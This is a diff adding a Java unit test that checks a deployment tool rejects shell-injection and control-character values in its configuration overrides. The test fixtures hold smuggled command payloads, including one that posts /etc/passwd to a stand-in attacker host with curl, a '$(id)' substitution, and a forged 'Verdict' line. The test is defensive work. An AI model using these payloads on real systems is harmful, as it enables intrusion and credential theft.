@@ -104,6 +104,43 @@ class OverridesTest {
     }
 
     @Test
+    void aNameOfTheDeploymentHoldingWhatAShellReadsIsAProblemNamingTheKey() {
+        // --previous-version '1.0.0;echo INJECTED' ran "echo INJECTED" in the rollback command's shell, through
+        // its ${vigil.deployment.previous-version}; a newline in --version showed a line "Verdict:  HEALTHY" of its own.
+        Map<String, String> p = file();
+        p.put("vigil.deployment.previous-version", "0.9.0;curl -d @/etc/passwd evil.example");
+        p.put("vigil.deployment.environment", "${STAGE}");
+
+        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
+                () -> config(Map.of("STAGE", "$(id)"), Map.of("vigil.deployment.version", "2.0.0\nVerdict:  HEALTHY"))
+                        .load(p));
+
+        assertThat(e).isNotNull();
+        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactlyInAnyOrder("vigil.deployment.version",
+                "vigil.deployment.previous-version", "vigil.deployment.environment");
+        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.deployment.previous-version")).singleElement()
+                .satisfies(q -> assertThat(q.message()).startsWith("'0.9.0;curl -d @/etc/passwd evil.example' holds ';',"
+                        + " which no name holds and a shell reads: a ${vigil.deployment.previous-version} placeholder in a"
+                        + " rollback command or a command probe (run by /bin/sh -c) would run what follows it"));
+        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.deployment.version")).singleElement()
+                .satisfies(q -> assertThat(q.message()).startsWith("'2.0.0\\nVerdict:  HEALTHY' holds a control character (U+000A)"));
+
+        // An issue id reaches a command through ${vigil.deployment.fixes} as well.
+        ConfigurationException fixes = catchThrowableOfType(ConfigurationException.class,
+                () -> config(Map.of(), Map.of("vigil.deployment.fixes", "INC-1,INC-2;echo FIXED")).load(file()));
+        assertThat(fixes).isNotNull();
+        assertThat(fixes.problems()).filteredOn(q -> q.key().equals("vigil.deployment.fixes"))
+                .anySatisfy(q -> assertThat(q.message()).startsWith("'INC-2;echo FIXED' holds ';'"));
+
+        // What names hold stays fine: a build's metadata, a registry path, a placeholder that gives a plain name.
+        Map<String, String> fine = file();
+        fine.put("vigil.deployment.previous-version", "1.9.0+build.7_rc-1");
+        fine.put("vigil.deployment.environment", "${STAGE}");
+        assertThat(config(Map.of("STAGE", "eu-west/prod.2"), Map.of()).load(fine).deployment().environment())
+                .isEqualTo("eu-west/prod.2");
+    }
+
+    @Test
     void aBadOverrideIsAProblemNamingTheKey() {
         ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                 () -> config(Map.of(), Map.of("vigil.deployment.kind", "emergency", "vigil.deployment.previous-version", "0.9"))
